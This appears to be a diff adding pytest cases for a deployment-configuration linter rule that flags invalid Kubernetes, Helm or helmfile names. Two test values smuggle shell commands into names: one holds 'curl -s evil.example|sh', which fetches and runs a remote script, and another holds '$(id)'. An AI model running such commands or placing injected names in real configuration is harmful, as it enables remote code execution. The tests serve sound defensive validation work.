@@ -379,3 +379,42 @@ def test_mw612_directory_without_helmfile(tmp_path):
 def test_a_deploy_service_key_set_twice_is_mw002():
     found = lint(GROUPS + GROUPS.split("\n", 7)[7])  # the cluster_groups key again
     assert ("MW002", 8, 1) in triples(found, "MW002")
+
+
+# -- MW614: names Kubernetes, Helm or helmfile cannot have -------------------------------
+
+NAME_CASES = [
+    ("namespace with shell", ("        shellbox:\n          environments:",
+                              '        "x; curl -s evil.example|sh; cd .":\n'
+                              "          environments:"), [("MW614", 65, 9)]),
+    ("namespace upper case", ("        superset:\n", "        SuperSet:\n"), [("MW614", 91, 9)]),
+    ("namespace of 64 characters", ("        superset:\n", "        " + "s" * 64 + ":\n"),
+     [("MW614", 91, 9)]),
+    ("release with $(id)", ("                main: {}\n            eqiad:",
+                            '                "main $(id)": {}\n            eqiad:'),
+     [("MW614", 72, 17)]),
+    ("environment with a space", ("      dse-k8s-eqiad:\n        datacenter: eqiad",
+                                  '      "dse k8s":\n        datacenter: eqiad'),
+     [("MW614", 30, 7), ("MW606", 94, 13), ("MW606", 96, 9)]),
+    ("alias with a slash", ("aliases: [staging]", "aliases: [staging, a/b]"),
+     [("MW614", 18, 28)]),
+    ("namespace with a dot", ("        superset:\n", "        superset-2.x:\n"), [("MW614", 91, 9)]),
+]
+
+
+@pytest.mark.parametrize("pair,expected", [c[1:] for c in NAME_CASES],
+                         ids=[c[0] for c in NAME_CASES])
+def test_mw614_invalid_names(pair, expected):
+    found = lint(mut(pair))
+    assert triples(found, "MW6") == expected
+    for f in found:
+        if f.code == "MW614":
+            assert f.severity == "warning" and len(f.message) <= 120, f.message
+
+
+def test_mw614_a_long_name_is_clipped():
+    found = lint(mut(("        superset:\n          environments:",
+                      "        ? " + "a" * 1_000_000 + "\n        : environments:")))
+    (f,) = [f for f in found if f.code == "MW614"]
+    assert len(f.message) < 120 and "1,000,000 characters" in f.message
+    assert len(f.yaml_path) < 400
